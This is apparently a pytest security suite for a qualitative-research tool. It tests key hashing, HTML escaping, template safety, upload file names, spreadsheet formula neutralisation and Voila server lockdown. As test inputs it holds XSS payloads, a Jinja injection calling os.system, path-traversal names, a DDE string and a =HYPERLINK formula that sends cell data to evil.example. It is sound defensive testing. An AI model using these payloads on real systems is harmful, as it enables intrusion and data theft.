"""The security review, one test per finding or guarantee (SECURITY.md says what each protects):

- the facilitator key: compared in constant time, stored only as a salted hash, in no URL, no page, no output but the
  one that creates it, not in the server log; every facilitator action refuses a wrong key;
- user text becomes HTML only escaped, on every page (a project where every free-text field carries markup);
- report templates are plain substitution: a template with Jinja code runs nothing;
- uploaded file names cannot write outside their temporary folder;
- the Voila server: bound to 127.0.0.1 by default, notebook sources stripped, code sent by a browser never runs.
"""

from __future__ import annotations

import asyncio
import json
import os
import re
import uuid
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace

import pytest
from sqlalchemy import func, select, update

from atlas_qual.errors import NotAuthorized
from atlas_qual.store import open_project

PAYLOAD = "\"'><img src=x onerror=alert(1)><script>alert(2)</script>"


# --- facilitator key ------------------------------------------------------------------------------------------------


def test_facilitator_key_is_checked_with_a_constant_time_comparison(monkeypatch):
    import hmac

    from atlas_qual import workshop as core

    calls = []
    real = hmac.compare_digest
    monkeypatch.setattr(hmac, "compare_digest", lambda a, b: calls.append((a, b)) or real(a, b))
    stored = core.hash_key("clave-del-facilitador")
    assert core.verify_key("clave-del-facilitador", stored) is True
    assert core.verify_key("clave-del-facilitadoR", stored) is False
    assert len(calls) == 2  # both answers came from compare_digest, whose time does not depend on the match
    assert "clave-del-facilitador" not in stored  # stored salted and hashed, never as itself
    assert core.hash_key("clave-del-facilitador") != stored


def _all_text(project) -> str:
    """Every value of every table, as text: what a stolen or shared project file reveals."""
    from atlas_qual.store.models import Base

    chunks = []
    with project.engine.connect() as conn:
        for table in Base.metadata.sorted_tables:
            for row in conn.execute(select(table)):
                chunks.extend(str(v) for v in row if v is not None)
    return "\n".join(chunks)


def test_facilitator_key_is_printed_once_and_is_nowhere_else(project_path, cli, tmp_path):
    gaps = tmp_path / "brechas.csv"
    gaps.write_text("id,title,description\nG01,Rutas de intervención,\nG02,Canales de denuncia,\n", encoding="utf-8")
    created = cli("workshop", "create", "--title", "Taller", "--gaps", gaps, "--json", "--project", project_path)
    assert created.code == 0, created
    data = created.json()
    key, code = data["facilitator_key"], data["session"]
    assert len(key) >= 32
    assert key not in data["participant_url"] and key not in data["facilitator_url"]
    assert "key=" not in data["facilitator_url"].lower()
    outputs = [cli("workshop", "results", "--session", code, "--json", "--project", project_path),
               cli("workshop", "list", "--json", "--project", project_path),
               cli("workshop", "list", "--project", project_path),
               cli("info", "--json", "--project", project_path)]
    for res in outputs:
        assert res.code == 0, res
        assert key not in res.out + res.err
    project = open_project(project_path)
    try:
        assert key not in _all_text(project)
        backup_file = tmp_path / "copia.db"
        from atlas_qual.store.admin import backup

        backup(project, backup_file)
        assert key.encode() not in backup_file.read_bytes()
    finally:
        project.dispose()


def test_every_facilitator_action_refuses_a_wrong_or_missing_key(project, tmp_path):
    from atlas_qual.store import workshop as ws
    from atlas_qual.store.models import WorkshopSession

    created = ws.create_session(project, "Taller", items=[{"ref": "G01", "title": "Rutas"},
                                                          {"ref": "G02", "title": "Canales"}])
    ballots = tmp_path / "papel.csv"
    ballots.write_text("participant,gap,criterion,value\nAna,G01,C1,sí\n", encoding="utf-8")
    actions = {
        "open_round": lambda k: ws.open_round(project, created.code, k, 1),
        "close_round": lambda k: ws.close_round(project, created.code, k),
        "reveal_round": lambda k: ws.reveal_round(project, created.code, k, 1),
        "finish_session": lambda k: ws.finish_session(project, created.code, k),
        "add_item": lambda k: ws.add_item(project, created.code, k, "G09", "Nueva"),
        "rename_session": lambda k: ws.rename_session(project, created.code, k, "Otro nombre"),
        "set_weights": lambda k: ws.set_weights(project, created.code, k, {"impact": 1.0}),
        "import_ballots": lambda k: ws.import_ballots(project, created.code, k, ballots),
        "export": lambda k: ws.export_workshop_xlsx(project, created.code, k, tmp_path / "x.xlsx"),
    }
    with project.session() as s:
        version = s.scalar(select(WorkshopSession.version).where(WorkshopSession.code == created.code))
    for name, action in actions.items():
        for wrong in (None, "", created.key[:-1], created.key.upper() if created.key.upper() != created.key
                      else created.key.lower(), " " + created.key):
            with pytest.raises(NotAuthorized):
                action(wrong)
    with project.session() as s:
        assert s.scalar(select(WorkshopSession.version).where(WorkshopSession.code == created.code)) == version
    assert not (tmp_path / "x.xlsx").exists()
    ws.open_round(project, created.code, created.key, 1)  # the right key works


# --- user text in HTML ------------------------------------------------------------------------------------------------

# free-text columns people (or imported files) fill: each gets the payload appended
POISON = {
    "transcripts": ("title", "interviewer", "pseudonym", "role", "filename"),
    "segments": ("speaker", "text"),
    "codes": ("name", "name_en"),
    "codings": ("coder",),
    "coders": ("name",),
    "memos": ("title", "text", "author"),
    "gaps": ("title", "description", "title_en", "description_en"),
    "workshop_sessions": ("title",),
    "session_items": ("title", "description", "title_en", "description_en"),
    "gate_questions": ("label_es", "label_en"),
    "scoring_criteria": ("label_es", "label_en"),
    "participants": ("nickname",),
    "workgroup_members": ("name",),
    "shortlist": ("new_dmop_name", "note"),
    "themes": ("label", "custom_label"),
    "meetings": ("title", "topics", "challenges", "innovative_solutions", "actions_taken"),
    "meeting_attendees": ("name", "role"),
    "recommendations": ("text", "responsible", "source"),
    "practices": ("title", "summary", "source"),
    "refinements": ("change", "why"),
    "sustainability_plans": ("title", "resources"),
    "dmops": ("name_es", "name_en", "aim_es", "aim_en"),
}


class _Markup(HTMLParser):
    """Elements and attributes the payload would create if it went into a page unescaped."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        for name, _value in attrs:
            if name.lower().startswith("on"):
                self.found.append(f"<{tag} {name}=...>")
        if tag == "img" and dict(attrs).get("src") == "x":
            self.found.append("<img src=x>")
        self._in_script = tag == "script"

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script and "alert(" in data:
            self.found.append("<script>alert(...)</script>")


def _unsafe_markup(html: str) -> list[str]:
    parser = _Markup()
    parser.feed(html)
    parser.close()
    return parser.found


def _rendered_html(since: set) -> list[tuple[str, str]]:
    """(widget, html) for every widget created since ``since`` whose text the browser reads as HTML."""
    import ipywidgets as widgets
    from ipywidgets.widgets.widget import _instances

    found = []
    for model_id, w in list(_instances.items()):
        if model_id in since:
            continue
        if isinstance(w, (widgets.HTML, widgets.HTMLMath)):
            found.append((type(w).__name__, w.value or ""))
        if getattr(w, "description_allow_html", False):
            found.append((type(w).__name__ + ".description", w.description or ""))
        if isinstance(w, widgets.Output):
            for out in w.outputs:
                html = (out.get("data") or {}).get("text/html")
                if html:
                    found.append(("Output", "".join(html) if isinstance(html, list) else html))
    return found


def _poison(project) -> None:
    from atlas_qual.store.models import Base

    def _do(s):
        for name, columns in POISON.items():
            table = Base.metadata.tables[name]
            values = {c: func.coalesce(table.c[c], "") + PAYLOAD for c in columns}
            s.execute(update(table).values(**values))

    project.write(_do)


def test_every_page_escapes_user_text(demo_project):
    """A project whose every free-text field ends in markup: no page turns it into elements or event handlers."""
    import ipywidgets as widgets  # noqa: F401
    from ipywidgets.widgets.widget import _instances

    from atlas_qual.store import workshop as ws
    from atlas_qual.store.models import Coding, Transcript

    project = open_project(demo_project)
    created = ws.create_session(project, "Taller " + PAYLOAD,
                                items=[{"ref": "G01", "title": "Rutas " + PAYLOAD, "description": PAYLOAD},
                                       {"ref": "G02", "title": "Canales", "description": ""}])
    ws.open_round(project, created.code, created.key, 1)
    me = ws.join_session(project, created.code, "Rosa")
    ws.cast_vote(project, created.code, me.token, "G01", "C1", "sí")
    _poison(project)
    with project.session() as s:
        transcript_id = s.scalar(select(func.min(Transcript.id)))
        coder = s.scalar(select(Coding.coder).where(Coding.coder.like("ana%")).limit(1)) or ""
    before = set(_instances)
    built = []
    try:
        from atlas_qual.widgets.landing import Landing

        for lang in ("es", "en"):
            built.append(Landing(project, lang=lang))
        from atlas_qual.widgets.coding import CodingApp

        built.append(CodingApp(project, coder=coder, transcript_id=transcript_id))
        from atlas_qual.widgets.agreement import AgreementApp

        built.append(AgreementApp(project))
        from atlas_qual.widgets.retrieval import VIEWS, RetrievalApp

        for view in VIEWS:
            built.append(RetrievalApp(project, view=view))
        from atlas_qual.widgets.facilitator import SECTIONS, FacilitatorApp

        fac = FacilitatorApp(project, code=created.code)
        fac._key_input.value = created.key
        fac._unlock_btn.click()
        for section in SECTIONS:
            fac._nav.value = section
        fac._on_tick(None)
        built.append(fac)
        from atlas_qual.widgets.register import RegisterApp

        built.append(RegisterApp(project))
        from atlas_qual.widgets.cycle import CycleApp

        built.append(CycleApp(project, dmop="MAUEP"))
        from atlas_qual.widgets.bok import BokApp

        built.append(BokApp(project))
        from atlas_qual.widgets.reports import ReportsApp

        built.append(ReportsApp(project))
        pages = _rendered_html(before)
        shown = "\n".join(html for _w, html in pages)
        # the poisoned text did reach the pages (escaped), so the check below looked at real user text
        assert "&lt;img src=x onerror=alert(1)&gt;" in shown
        unsafe = [(w, found) for w, html in pages for found in _unsafe_markup(html)]
        assert unsafe == []
    finally:
        for w in built:
            w.close_all() if hasattr(w, "close_all") else None
        project.dispose()


# --- report templates -------------------------------------------------------------------------------------------------


def test_a_report_template_with_jinja_code_runs_nothing(demo_project, cli, tmp_path):
    from docx import Document

    marker = tmp_path / "pwned"
    evil = tmp_path / "plantilla.docx"
    doc = Document()
    doc.add_paragraph("{{ cycler.__init__.__globals__.os.system('touch " + str(marker) + "') }}")
    doc.add_paragraph("{% for x in range(3) %}{{ x }}{% endfor %}")
    doc.add_paragraph("{{ content }}")
    doc.save(evil)
    out = tmp_path / "informe.docx"
    res = cli("report", "dmop", "--dmop", "MAUEP", "--lang", "en", "--template", evil, "--out", out,
              "--project", demo_project)
    assert not marker.exists()  # nothing in the template was ever evaluated
    assert res.code == 1 and "plantilla.docx" in res.err and "cycler.__init__" in res.err, res
    assert not out.exists()


# --- spreadsheets --------------------------------------------------------------------------------------------------

# what anyone in the room can type as a nickname, or an interviewee can say at the start of a turn: Excel (and
# LibreOffice) evaluate a cell that starts with one of = + - @ as a formula (links that leak data, DDE commands)
FORMULAS = ('=HYPERLINK("http://evil.example/?q="&A1,"abrir")', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)")


def _live_formulas(path: Path) -> list[str]:
    from openpyxl import load_workbook

    book = load_workbook(path)
    return [f"{sh.title}!{cell.coordinate}={cell.value!r}" for sh in book.worksheets for row in sh.iter_rows()
            for cell in row if cell.data_type == "f"]


def _csv_formulas(path: Path) -> list[str]:
    import csv

    text = path.read_text(encoding="utf-8-sig")
    return [cell for row in csv.reader(text.splitlines()) for cell in row if cell[:1] in ("=", "+", "@")
            or (cell[:1] == "-" and any(ch in cell for ch in "+|!("))]


def test_workshop_excel_export_keeps_typed_formulas_as_text(project, tmp_path):
    from atlas_qual.store import workshop as ws

    created = ws.create_session(project, "Taller", anonymous=False,
                                items=[{"ref": f"G0{i}", "title": f} for i, f in enumerate(FORMULAS, start=1)])
    ws.open_round(project, created.code, created.key, 1)
    for n, nickname in enumerate(('=HYPERLINK("http://x.example","a")', "+1+1", "-2+3+cmd|'/C calc'!A0", "@SUM(1)")):
        me = ws.join_session(project, created.code, nickname)
        ws.cast_vote(project, created.code, me.token, f"G0{n + 1}", "C1", "sí")
    out = tmp_path / "taller.xlsx"
    ws.export_workshop_xlsx(project, created.code, created.key, out)
    assert _live_formulas(out) == []
    from openpyxl import load_workbook

    texts = {c.value for sh in load_workbook(out).worksheets for row in sh.iter_rows() for c in row}
    assert any(isinstance(v, str) and "HYPERLINK" in v for v in texts)  # still there, as the text people typed


def test_coding_exports_keep_quotes_that_look_like_formulas_as_text(project, tmp_path):
    from atlas_qual.store.coding import apply_code
    from atlas_qual.store.coding_io import export_codings_csv, export_xlsx
    from atlas_qual.store.models import Segment
    from atlas_qual.store.transcripts import import_files

    f = tmp_path / "formulas.txt"
    f.write_text("".join(f"Fiscal: {text}\nE: ¿Y entonces?\n" for text in FORMULAS), encoding="utf-8")
    report = import_files(project, [f])
    assert not report.errors
    with project.session() as s:
        segments = list(s.scalars(select(Segment.id).order_by(Segment.id)))
    for seg in segments:
        apply_code(project, seg, "Debilidades", "=1+1")
    export_xlsx(project, tmp_path / "codificacion.xlsx", redact=False)
    assert _live_formulas(tmp_path / "codificacion.xlsx") == []
    export_codings_csv(project, tmp_path / "codificaciones.csv", redact=False)
    assert _csv_formulas(tmp_path / "codificaciones.csv") == []


# --- file names from users ------------------------------------------------------------------------------------------

HOSTILE_NAMES = ("../../../../tmp/aq-escape.csv", "/etc/cron.d/aq-escape.csv", "..\\..\\aq-escape.csv",
                 "sub/dir/../../aq-escape.csv")


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_uploaded_file_names_stay_inside_their_temporary_folder(name):
    from atlas_qual.widgets import bok, facilitator

    for save in (facilitator._upload_to_file, bok._upload_path):
        upload = SimpleNamespace(value=[{"name": name, "content": b"id,title\nG01,x\n"}])
        path = Path(save(upload)).resolve()
        tmp_root = Path(os.environ.get("TMPDIR", "/tmp")).resolve()
        assert path.parent.parent == tmp_root and path.parent.name.startswith("aq-")  # a fresh folder of its own
        assert path.read_bytes() == b"id,title\nG01,x\n"
        assert not Path("/tmp/aq-escape.csv").exists() and not Path("/etc/cron.d/aq-escape.csv").exists()


# --- the Voila server -------------------------------------------------------------------------------------------------


def test_serve_binds_to_this_machine_only_by_default():
    from atlas_qual.cli import build_parser
    from atlas_qual.server import voila_argv

    args = build_parser().parse_args(["serve"])
    assert args.ip == "127.0.0.1"
    argv = voila_argv(port=8866, ip=args.ip, pool_size=1, culling=600)
    assert "--Voila.ip=127.0.0.1" in argv and "--strip_sources=True" in argv and "--show_tracebacks=False" in argv


def _listening_addresses(port: int) -> set[str]:
    """Local addresses with a socket listening on ``port`` (from /proc/net/tcp and tcp6)."""
    found = set()
    for name in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            lines = Path(name).read_text().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            fields = line.split()
            local, state = fields[1], fields[3]
            address, port_hex = local.rsplit(":", 1)
            if state == "0A" and int(port_hex, 16) == port:
                found.add(address)
    return found


def test_the_running_server_listens_on_loopback_only(demo_server):
    addresses = _listening_addresses(demo_server.port)
    if not addresses:
        pytest.skip("/proc/net/tcp is not readable here")
    assert addresses <= {"0100007F", "00000000000000000000000001000000"}, addresses  # 127.0.0.1 / ::1


def _get(url: str) -> str:
    import urllib.request

    with urllib.request.urlopen(url, timeout=120) as resp:
        return resp.read().decode("utf-8", "replace")


def test_pages_are_served_without_their_source_code(demo_server):
    html = _get(demo_server.url("index.ipynb"))
    notebook = json.loads((Path(__file__).resolve().parents[1] / "notebooks" / "index.ipynb").read_text())
    sources = ["".join(c["source"]) for c in notebook["cells"] if c["cell_type"] == "code"]
    assert sources and all(src.strip() for src in sources)
    for src in sources:
        for line in src.splitlines():
            if line.strip():
                assert line.strip() not in html, line
    with pytest.raises(Exception):  # noqa: B017 - the raw notebook is not downloadable either
        _get(demo_server.base + "/voila/files/index.ipynb")


async def _kernel_roundtrip(base: str, kernel_id: str, code: str) -> dict:
    """Send an execute_request and a kernel_info_request on the page's kernel channel; what came back."""
    from tornado.websocket import websocket_connect

    ws_url = base.replace("http://", "ws://") + f"/api/kernels/{kernel_id}/channels?session_id={uuid.uuid4().hex}"
    conn = await websocket_connect(ws_url)

    def message(msg_type: str, content: dict) -> str:
        msg_id = uuid.uuid4().hex
        return json.dumps({"header": {"msg_id": msg_id, "msg_type": msg_type, "username": "x", "session": "x",
                                      "date": "2025-03-14T10:00:00Z", "version": "5.3"},
                           "parent_header": {}, "metadata": {}, "content": content, "channel": "shell",
                           "buffers": []})

    await conn.write_message(message("execute_request", {"code": code, "silent": False, "store_history": False,
                                                         "user_expressions": {}, "allow_stdin": False}))
    await conn.write_message(message("kernel_info_request", {}))
    seen: dict = {"types": []}
    try:
        while True:
            raw = await asyncio.wait_for(conn.read_message(), timeout=20)
            if raw is None:
                break
            msg = json.loads(raw) if isinstance(raw, str) else {}
            seen["types"].append(msg.get("msg_type") or msg.get("header", {}).get("msg_type"))
            if seen["types"][-1] == "kernel_info_reply":
                await asyncio.sleep(2)  # give an execute_request that got through time to show itself
                while True:
                    try:
                        raw = await asyncio.wait_for(conn.read_message(), timeout=1)
                    except asyncio.TimeoutError:
                        break
                    if raw is None:
                        break
                    msg = json.loads(raw) if isinstance(raw, str) else {}
                    seen["types"].append(msg.get("msg_type") or msg.get("header", {}).get("msg_type"))
                break
    finally:
        conn.close()
    return seen


def test_code_sent_from_a_browser_to_a_page_kernel_never_runs(demo_server, tmp_path):
    html = _get(demo_server.url("index.ipynb"))
    match = re.search(r'"kernelId"\s*:\s*"([0-9a-f-]{36})"', html) or re.search(
        r"kernel[_-]?[iI]d\W+([0-9a-f]{8}-[0-9a-f-]{27})", html)
    assert match, "no kernel id in the page"
    marker = tmp_path / "executed"
    code = f"open({str(marker)!r}, 'w').write('ran')"
    # in a thread of its own: the browser tests' Playwright keeps an event loop running in this one
    from concurrent.futures import ThreadPoolExecutor

    with ThreadPoolExecutor(1) as pool:
        seen = pool.submit(asyncio.run, _kernel_roundtrip(demo_server.base, match.group(1), code)).result(120)
    assert "kernel_info_reply" in seen["types"]  # the channel works: allowed messages get through
    assert "execute_reply" not in seen["types"] and "execute_input" not in seen["types"]
    assert not marker.exists()
    log = demo_server.log_path.read_text(errors="replace")
    assert 'Received message of type "execute_request", which is not allowed' in log


@pytest.mark.browser
def test_facilitator_key_is_not_in_the_url_or_the_server_log(demo_server, page):
    from atlas_qual.store import workshop as ws

    project = open_project(demo_server.project)
    try:
        created = ws.create_session(project, "Taller de seguridad", items=[{"ref": "G01", "title": "Rutas"}])
    finally:
        project.dispose()
    page.goto(demo_server.url("facilitator.ipynb", session=created.code))
    page.wait_for_selector(".aq-key-input input")
    page.fill(".aq-key-input input", created.key)
    page.click(".aq-unlock")
    page.wait_for_selector(".aq-sections")
    assert created.key not in page.url
    assert created.key not in page.content()  # not echoed back into the page once unlocked
    # whatever the server and the page kernels write (their stdout and stderr go to this log) never holds the key
    assert created.key not in demo_server.log_path.read_text(errors="replace")


def _status(url: str) -> int:
    import urllib.error
    import urllib.request

    try:
        with urllib.request.urlopen(url, timeout=120) as resp:
            return resp.status
    except urllib.error.HTTPError as exc:
        return exc.code


def test_the_lan_workshop_setup_serves_no_interview_page(tmp_path, project_path):
    """docs/lan.md: for a room of phones, serve only the workshop pages; the interview pages do not exist there."""
    import shutil

    from conftest import VoilaServer

    pages = tmp_path / "taller-paginas"
    pages.mkdir()
    notebooks = Path(__file__).resolve().parents[1] / "notebooks"
    for name in ("index.ipynb", "facilitator.ipynb"):
        shutil.copy(notebooks / name, pages / name)
    server = VoilaServer(project_path, pool_size=1, notebooks=pages, log_dir=tmp_path)
    try:
        for page in ("coding.ipynb", "retrieval.ipynb", "reports.ipynb", "agreement.ipynb", "../notebooks/coding.ipynb"):
            assert _status(server.url(page)) == 404, page
        assert _status(server.base + "/api/kernels") in (403, 404, 405)  # nobody can list the kernels
        assert _status(server.url("participant.ipynb")) == 200  # redirected to the kernel-free page, /p/
    finally:
        server.stop()
    from atlas_qual.widgets.landing import Landing

    project = open_project(project_path)
    try:  # the landing page of that server links only to the pages it serves
        body = "".join(w.value for w in Landing(project, notebooks=pages).children if hasattr(w, "value"))
        assert "facilitator.ipynb" in body
        assert "coding.ipynb" not in body and "reports.ipynb" not in body
    finally:
        project.dispose()


# --- files: owner-only modes, formula-safe CSV, no stray folders (issue 13) -----------------------------------------


def _mode(path) -> int:
    return os.stat(path).st_mode & 0o777


def test_a_new_project_file_and_its_wal_and_shm_are_readable_by_the_owner_only(tmp_path, backend):
    if backend != "sqlite":
        pytest.skip("a PostgreSQL project has no file")
    old = os.umask(0o022)  # a usual desktop umask: files would be 0644
    try:
        project = open_project(tmp_path / "nuevo.db", create=True)
        with project.engine.connect() as conn:
            conn.exec_driver_sql("CREATE TABLE IF NOT EXISTS probe (x)")
            conn.exec_driver_sql("INSERT INTO probe VALUES (1)")
            conn.commit()
            files = sorted(p.name for p in tmp_path.iterdir() if p.name.startswith("nuevo.db"))
            assert {"nuevo.db", "nuevo.db-wal", "nuevo.db-shm"} <= set(files)
            assert {name: _mode(tmp_path / name) for name in files} == {name: 0o600 for name in files}
        project.dispose()
    finally:
        os.umask(old)


def test_every_file_the_cli_writes_is_readable_by_the_owner_only(tmp_path, project_path, cli):
    old = os.umask(0o022)
    try:
        written = {
            "codings.csv": ("codings", "export"),
            "p.qdpx": ("export", "qdpx"),
            "libro.qdc": ("export", "codebook"),
            "todo.xlsx": ("export", "xlsx"),
            "libro.csv": ("codebook", "export"),
            "libro.yaml": ("codebook", "export"),
        }
        for name, command in written.items():
            r = cli(*command, tmp_path / name, "--project", project_path)
            assert r.code == 0, r
        if "://" not in str(project_path):
            assert cli("backup", tmp_path / "copia.db", "--project", project_path).code == 0
            written["copia.db"] = ("backup",)
            r = cli("init", "--project", tmp_path / "otro.db")
            assert r.code == 0
            written["otro.db"] = ("init",)
        modes = {name: _mode(tmp_path / name) for name in written}
        assert modes == {name: 0o600 for name in written}
        assert os.umask(0o022) == 0o022  # the CLI gave the caller's umask back
    finally:
        os.umask(old)


def test_codebook_csv_export_writes_formulas_as_text_and_reads_them_back_unchanged():
    from atlas_qual.codebook import read_csv, to_csv

    source = ("path,name_en,definition_es\n"
              'Temas,Topics,"=HYPERLINK(""http://malo.example"",""ver"")"\n'
              'Temas/Criadazgo,,"@SUM(A1:A9)"\n')
    codebook = read_csv(source)
    written = to_csv(codebook)
    for line in written.splitlines()[1:]:
        cells = next(iter(__import__("csv").reader([line])))
        assert not any(c.startswith(("=", "@", "+", "-")) and len(c) > 1 for c in cells), line
    assert "'=HYPERLINK(" in written and "'@SUM(" in written
    again = read_csv(written)
    assert again.codes[0].definition["es"] == '=HYPERLINK("http://malo.example","ver")'
    assert again.codes[0].children[0].definition["es"] == "@SUM(A1:A9)"


def test_every_csv_in_the_package_goes_through_the_one_formula_safe_writer():
    root = Path(__file__).resolve().parents[1] / "atlas_qual"
    offenders = [str(p.relative_to(root)) for p in root.rglob("*.py")
                 if p.name != "csvio.py" and re.search(r"csv\.(?:writer|DictWriter)\(", p.read_text(encoding="utf-8"))]
    assert offenders == []


def test_demo_leaves_no_temporary_folder_in_the_current_folder_or_the_system_temp(tmp_path, monkeypatch):
    import tempfile

    from atlas_qual.demo import build_demo

    system_tmp = Path(tempfile.gettempdir())
    before = {p.name for p in system_tmp.iterdir() if p.name.startswith("aq-demo-")}
    monkeypatch.chdir(tmp_path)
    project = open_project("atlas.db", create=True)  # the project in the current folder, as `atlas-qual demo` does
    try:
        build_demo(project)
    finally:
        project.dispose()
    left = sorted(p.name for p in tmp_path.iterdir() if not p.name.startswith("atlas.db"))
    assert left == []
    after = {p.name for p in system_tmp.iterdir() if p.name.startswith("aq-demo-")}
    assert after - before == set()
